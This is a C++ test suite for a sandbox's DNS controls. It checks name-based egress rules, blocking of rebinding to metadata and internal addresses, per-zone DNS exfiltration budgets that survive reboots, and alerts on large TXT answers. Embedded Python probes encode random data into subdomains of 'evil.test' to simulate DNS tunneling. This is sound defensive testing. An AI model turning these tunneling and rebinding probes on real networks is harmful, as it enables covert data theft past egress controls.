// `stockade run` and names: those of the policy open their addresses, nothing else does, and what is said in
// names to a zone stays within its budget.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <arpa/inet.h>
#include <signal.h>
#include <sys/socket.h>

#include <algorithm>
#include <filesystem>
#include <map>
#include <set>

#include "absl/strings/ascii.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "bpf/wire/dns_message.h"
#include "tests/dns/dns_wire.h"
#include "tests/dns/world.h"
#include "tests/tools/product.h"

namespace stockade::tests {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr char kConnect[] =
    "import socket, sys\n"
    "def go(host, port):\n"
    "    try:\n"
    "        with socket.create_connection((host, port), timeout=10) as s: return s.recv(9).decode()\n"
    "    except PermissionError: return 'EPERM'\n"
    "    except socket.gaierror: return 'no name'\n"
    "    except OSError as e: return type(e).__name__\n"
    "for word in sys.argv[1:]:\n"
    "    host, port = word.rsplit(':', 1)\n"
    "    print(word, go(host, int(port)))\n";

class DnsRun : public ::testing::Test {
  protected:
    static void SetUpTestSuite() {
        product_ = new Product;
        world_ = new World;
    }
    static void TearDownTestSuite() {
        delete product_;
        delete world_;
        product_ = nullptr;
        world_ = nullptr;
    }
    void SetUp() override {
        ASSERT_TRUE(world_->status().ok()) << world_->status();
        (void)world_->TakeNames();
    }
    static std::string Policy(const std::string& name, const std::string& spec) {
        return product_->Put(name + ".yaml",
                             absl::StrCat("apiVersion: stockade.dev/v1\nkind: SandboxPolicy\nmetadata: {name: ", name,
                                          "}\nspec:\n  violation: deny\n  exec: {allow: [/usr/**], libraries: [/usr/**]}\n"
                                          "  files: {read: [/**], write: [/tmp/**]}\n", spec));
    }
    // Any name may be asked, within the budgets.
    static std::string Open(const std::string& name) {
        return Policy(name, absl::StrCat("  dns: {mode: open, resolvers: [", World::kResolver, "]}\n"));
    }
    static Ran Connect(const std::string& policy, const std::vector<std::string>& where, const std::vector<std::string>& flags = {}) {
        std::vector<std::string> command = {"python3", "-c", kConnect};
        command.insert(command.end(), where.begin(), where.end());
        return product_->Run(policy, command, flags);
    }
    static inline Product* product_;
    static inline World* world_;
};

TEST_F(DnsRun, ANameOfThePolicyOpensItsAddressAndNothingElse) {
    const std::string policy = Policy("names", absl::StrCat(
        "  network: {allow: [{name: \"*.egress.test\", ports: [", World::kPort, "]}]}\n  dns: {resolvers: [", World::kResolver, "]}\n"));
    world_->Answer("ok.egress.test", World::kOutside);
    world_->Answer("also.other.test", World::kOutside);
    const std::string port = absl::StrCat(":", World::kPort);
    // The address before its name, the name, the address after it, another port of it, a name that no rule has.
    const Ran ran = Connect(policy, {World::kOutside + port, "ok.egress.test" + port, World::kOutside + port,
                                     absl::StrCat("ok.egress.test:", World::kOtherPort), "also.other.test" + port});
    EXPECT_EQ(ran.status, 0) << ran.Text();
    EXPECT_EQ(ran.out, absl::StrCat(World::kOutside, port, " EPERM\nok.egress.test", port, " hello\n", World::kOutside, port,
                                    " hello\nok.egress.test:", World::kOtherPort, " EPERM\nalso.other.test", port, " no name\n"))
        << ran.Text();
    EXPECT_THAT(world_->TakeNames(), Not(testing::Contains("also.other.test")));
    EXPECT_THAT(ran.err, HasSubstr("the policy does not allow resolving also.other.test"));
    EXPECT_THAT(ran.err, HasSubstr("dns.allow: [also.other.test]"));
}

TEST_F(DnsRun, ANameThatLeadsBehindTheWorldOpensNothing) {
    const std::string policy = Policy("rebind", absl::StrCat(
        "  network: {allow: [{name: \"*.egress.test\"}]}\n  dns: {resolvers: [", World::kResolver, "]}\n"));
    world_->Answer("metadata.egress.test", "169.254.169.254");
    world_->Answer("inner.egress.test", "10.1.2.3");
    const Ran ran = Connect(policy, {"metadata.egress.test:80", "inner.egress.test:80"});
    EXPECT_EQ(ran.out, "metadata.egress.test:80 EPERM\ninner.egress.test:80 EPERM\n") << ran.Text();
}

TEST_F(DnsRun, AZoneLearnsItsBudgetAndTheFindingNamesIt) {
    const std::string policy = Policy("open", absl::StrCat("  dns: {mode: open, resolvers: [", World::kResolver, "]}\n  record: {dns: all}\n"));
    const std::string code =
        "import os, socket\n"
        "data = os.urandom(2000).hex()\n"
        "for i in range(0, len(data), 40):\n"
        "    try: socket.getaddrinfo(data[i:i+40] + '.evil.test', 80)\n"
        "    except OSError: pass\n";
    const Ran ran = product_->Run(policy, {"python3", "-c", code});
    EXPECT_EQ(ran.status, 0) << ran.Text();
    std::set<std::string> learnt;
    for (const std::string& name : world_->TakeNames()) {
        if (absl::EndsWith(name, ".evil.test")) learnt.insert(name.substr(0, 40));
    }
    EXPECT_GE(learnt.size(), 3u) << "the plumbing works";
    EXPECT_LE(learnt.size() * 20, 256u) << "bytes of the file";
    bool found = false;
    for (const Json& event : ran.events) {
        found |= At(event, "finding.rule") == "dns-budget" && At(event, "finding.severity") == "high" &&
                 absl::StrContains(At(event, "finding.title"), "evil.test");
    }
    EXPECT_TRUE(found) << ran.Text();
    EXPECT_THAT(ran.err, HasSubstr("dns.zone_budget"));
    // The same under observe: all of it arrives.
    const std::string observe = Policy("watch", absl::StrCat("  dns: {mode: observe, resolvers: [", World::kResolver, "]}\n"));
    EXPECT_EQ(product_->Run(observe, {"python3", "-c", code}).status, 0);
    learnt.clear();
    for (const std::string& name : world_->TakeNames()) {
        if (absl::EndsWith(name, ".evil.test")) learnt.insert(name.substr(0, 40));
    }
    EXPECT_EQ(learnt.size(), 100u);
}

// Maps that are made anew, as after a reboot, find what the session has spent; another session starts from nothing.
TEST_F(DnsRun, TheBudgetOutlivesAReboot) {
    Product product;
    const std::string policy = product.Put("reboot.yaml", absl::StrCat(
        "apiVersion: stockade.dev/v1\nkind: SandboxPolicy\nmetadata: {name: reboot}\nspec:\n  violation: deny\n"
        "  exec: {allow: [/usr/**], libraries: [/usr/**]}\n  files: {read: [/**]}\n  dns: {mode: open, resolvers: [", World::kResolver, "]}\n"));
    const std::string code =
        "import os, socket\n"
        "for i in range(20):\n"
        "    try: socket.getaddrinfo(os.urandom(20).hex() + '.boot.test', 80, socket.AF_INET)\n"
        "    except OSError: pass\n";
    const auto learnt = [&](const std::string& session) {
        EXPECT_EQ(product.Run(policy, {"python3", "-c", code}, {"--session", session}).status, 0);
        size_t bytes = 0;
        for (const std::string& name : world_->TakeNames()) bytes += absl::EndsWith(name, ".boot.test") ? 20 : 0;
        return bytes;
    };
    const auto reboot = [&] {
        product.StopAgent(SIGTERM);
        std::filesystem::remove_all(product.pin_dir());
        std::filesystem::remove_all(product.Path("run"));
    };
    const size_t before = learnt("long");
    EXPECT_GE(before, 60u) << "the plumbing works";
    reboot();
    EXPECT_LE(before + learnt("long"), 256u);
    EXPECT_GE(learnt("fresh"), 60u);
    reboot();
    for (const auto& file : std::filesystem::directory_iterator(product.Path("state/dns_budgets"))) std::filesystem::resize_file(file, 40);
    const Ran ran = product.Run(policy, {"python3", "-c", code}, {"--session", "long"});
    EXPECT_EQ(ran.status, 125) << ran.Text();
    EXPECT_THAT(ran.err, HasSubstr("not as it was written: what session long has spent"));
    EXPECT_EQ(product.LeftOver(), "");
}

// One zone's budget and nobody else's; what it spends is not of the total either, which would end it at 2 KiB.
TEST_F(DnsRun, AGrantIsOfItsZoneAlone) {
    const std::string policy = Policy("granted", absl::StrCat("  dns: {mode: open, resolvers: [", World::kResolver,
                                                              "], grants: {granted.test: 8KiB}}\n"));
    const std::string code =
        "import os, socket\n"
        "for zone in ['granted.test', 'other.test']:\n"
        "    for i in range(100):\n"
        "        try: socket.getaddrinfo(os.urandom(20).hex() + '.' + zone, 80)\n"
        "        except OSError: pass\n";
    EXPECT_EQ(product_->Run(policy, {"python3", "-c", code}).status, 0);
    std::map<std::string, std::set<std::string>> learnt;
    for (const std::string& name : world_->TakeNames()) learnt[name.substr(std::min<size_t>(name.size(), 41))].insert(name);
    EXPECT_EQ(learnt["granted.test"].size(), 100u);
    EXPECT_GE(learnt["other.test"].size(), 3u);
    EXPECT_LE(learnt["other.test"].size() * 20, 256u);
}

TEST_F(DnsRun, TheBudgetIsTheSessions) {
    const std::string policy = Open("session");
    const std::string code =
        "import os, socket\n"
        "for i in range(20):\n"
        "    try: socket.getaddrinfo(os.urandom(20).hex() + '.leak.test', 80)\n"
        "    except OSError: pass\n";
    std::set<std::string> learnt;
    for (int i = 0; i < 5; ++i) {
        if (i == 3) {  // a next agent knows the session
            const pid_t before = product_->AgentPid();
            product_->StopAgent(SIGKILL);
            EXPECT_NE(before, 0);
        }
        const Ran ran = product_->Run(policy, {"python3", "-c", code}, {"--session", "one"});
        EXPECT_EQ(ran.status, 0) << ran.Text();
        for (const std::string& name : world_->TakeNames()) learnt.insert(name.substr(0, 40));
    }
    EXPECT_GE(learnt.size(), 3u);
    EXPECT_LE(learnt.size() * 20, 256u);
}

TEST_F(DnsRun, OrdinaryNamesStayWellWithinIt) {
    const std::string policy = Open("ordinary");
    std::vector<std::string> names;
    for (const char* sub : {"www", "api", "static", "cdn", "files", "login", "docs", "img"}) names.push_back(absl::StrCat(sub, ".shop.test:1"));
    for (const std::string& name : names) world_->Answer(name.substr(0, name.find(':')), World::kOutside);
    for (int i = 0; i < 3; ++i) {
        const Ran ran = Connect(policy, names, {"--session", "ordinary"});
        EXPECT_EQ(ran.status, 0) << ran.Text();
        EXPECT_THAT(ran.out, HasSubstr("img.shop.test:1 ConnectionRefusedError"));
        EXPECT_THAT(ran.out, Not(HasSubstr("no name"))) << i << ran.Text();
    }
}

// The kernel's meter reads datagrams: what comes over TCP must ask nobody.
TEST_F(DnsRun, OverTcpThereIsOnlyWhatWasAskedOverUdp) {
    const std::string policy = Open("tcp");
    world_->Answer("known.tcp.test", World::kOutside);
    const std::string code =
        "import socket, struct\n"
        "server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]\n"
        "def ask(name):\n"
        "    q = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'\n"
        "    with socket.create_connection((server, 53), timeout=10) as s:\n"
        "        s.sendall(struct.pack('>H', len(q)) + q)\n"
        "        return s.recv(65536)[5] & 15\n"
        "print(ask('secret.tcp.test'), ask('known.tcp.test'))\n"
        "socket.getaddrinfo('known.tcp.test', 80)\n"
        "print(ask('known.tcp.test'), ask('secret.tcp.test'))\n";
    const Ran ran = product_->Run(policy, {"python3", "-c", code});
    EXPECT_EQ(ran.out, "5 5\n0 5\n") << ran.Text();
    const std::vector<std::string> names = world_->TakeNames();
    EXPECT_THAT(names, testing::Contains("known.tcp.test"));
    EXPECT_THAT(names, Not(testing::Contains("secret.tcp.test")));
}

// A repeat that goes on to the name server is charged each time, also where its TTL says that a cache has it.
TEST_F(DnsRun, RepeatsThatAreAskedAgainAreCharged) {
    const std::string policy = Open("repeats");
    const std::string code =
        "import socket\n"
        "for i in range(400):\n"
        "    try: socket.getaddrinfo('x%d.again.test' % (i % 2), 80, socket.AF_INET)\n"
        "    except OSError: pass\n";
    EXPECT_EQ(product_->Run(policy, {"python3", "-c", code}).status, 0);
    size_t arrived = 0;
    for (const std::string& name : world_->TakeNames()) arrived += absl::EndsWith(name, ".again.test");
    EXPECT_GE(arrived, 10u);
    EXPECT_LE(arrived * 9, 256u * 8) << "nine bits each at least";
}

// Names that find no room in the meter's memory are new each time, and cheap: asked over and over from the stub's
// cache, they must not earn back what others have spent.
TEST_F(DnsRun, WhatACacheAnswersEarnsNothingBack) {
    const std::string policy = Open("earn");
    const std::string code =
        "import os, socket, time\n"
        "def ask(name):\n"
        "    try: socket.getaddrinfo(name, 80, socket.AF_INET)\n"
        "    except OSError: pass\n"
        "letters = 'abcdefghijklmnopqrstuvwxyz0123456789'\n"
        "for i in range(760): ask(letters[i % 36] + letters[i // 36] + '.google.com')\n"
        "ask('earn.test')\n"
        "for i in range(30):\n"
        "    ask(os.urandom(20).hex() + '.earn.test')\n"
        "    for k in range(60): ask('earn.test')\n";
    const Ran ran = product_->Run(policy, {"python3", "-c", code});
    EXPECT_EQ(ran.status, 0) << ran.Text();
    size_t learnt = 0;
    for (const std::string& name : world_->TakeNames()) learnt += absl::EndsWith(name, ".earn.test") ? 20 : 0;
    EXPECT_GE(learnt, 60u) << "the plumbing works";
    EXPECT_LE(learnt, 256u);
}

// The stub's address is one of the host's. Who else reaches it must not be able to open addresses for the sandbox.
TEST_F(DnsRun, NobodyElseAsksInTheSandboxesName) {
    const std::string policy = Policy("own", absl::StrCat(
        "  network: {allow: [{name: \"*.egress.test\"}]}\n  dns: {resolvers: [", World::kResolver, "]}\n"));
    world_->Answer("ok.egress.test", World::kOutside);
    world_->Answer("later.egress.test", World::kOutside);
    const std::string code =
        "import os, socket, time\n"
        "print([l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0], flush=True)\n"
        "while not os.path.exists('/in/go'): time.sleep(0.02)\n"
        "print(socket.gethostbyname('later.egress.test'))\n";
    (void)product_->Put("own/here", "");
    const pid_t pid = product_->StartRun(policy, {"python3", "-c", code}, "own", {"--in", product_->Path("own")});
    ASSERT_TRUE(Until([&] { return absl::EndsWith(ReadText(product_->Path("own.out")), "\n"); }));
    const std::string stub(absl::StripAsciiWhitespace(ReadText(product_->Path("own.out"))));
    const Fd outsider(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(53);
    ASSERT_EQ(inet_pton(AF_INET, stub.c_str(), &to.sin_addr), 1) << stub;
    ASSERT_EQ(connect(outsider.get(), reinterpret_cast<const sockaddr*>(&to), sizeof(to)), 0);
    const std::string query = WireQuery(1, "ok.egress.test", SK_DNS_TYPE_A);
    ASSERT_EQ(send(outsider.get(), query.data(), query.size(), 0), static_cast<ssize_t>(query.size()));
    (void)product_->Put("own/go", "");
    const Ran ran = product_->Finish(pid, "own");
    EXPECT_THAT(ran.out, HasSubstr(World::kOutside)) << ran.Text();
    // The sandbox's own question went the same way after it, and came through.
    EXPECT_THAT(world_->TakeNames(), testing::ElementsAre("later.egress.test"));
}

TEST_F(DnsRun, ManyBytesInTxtAnswersAreTold) {
    const std::string policy = Open("txt");
    world_->Text("big.down.test", std::string(1100, 'x'));
    const std::string code =
        "import socket, struct\n"
        "server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]\n"
        "q = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b'\\3big\\4down\\4test\\0' + struct.pack('>HH', 16, 1)\n"
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
        "    s.connect((server, 53)); s.send(q); print(bool(s.recv(4096)[2] & 2))\n"
        "with socket.create_connection((server, 53), timeout=10) as s:\n"
        "    s.sendall(struct.pack('>H', len(q)) + q); print(struct.unpack('>H', s.recv(2))[0] > 1100)\n";
    const Ran ran = product_->Run(policy, {"python3", "-c", code});
    EXPECT_EQ(ran.out, "True\nTrue\n") << ran.Text();
    const auto told = [](const Json& event) {
        return At(event, "finding.rule") == "dns-downlink" && absl::StrContains(At(event, "finding.title"), "down.test");
    };
    EXPECT_EQ(std::count_if(ran.events.begin(), ran.events.end(), told), 1) << ran.Text();
}

TEST_F(DnsRun, WithoutDnsThereIsNone) {
    const Ran ran = Connect("networkless", {"ok.egress.test:80"});
    EXPECT_EQ(ran.out, "ok.egress.test:80 no name\n") << ran.Text();
    EXPECT_THAT(world_->TakeNames(), IsEmpty());
}

}  // namespace
}  // namespace stockade::tests
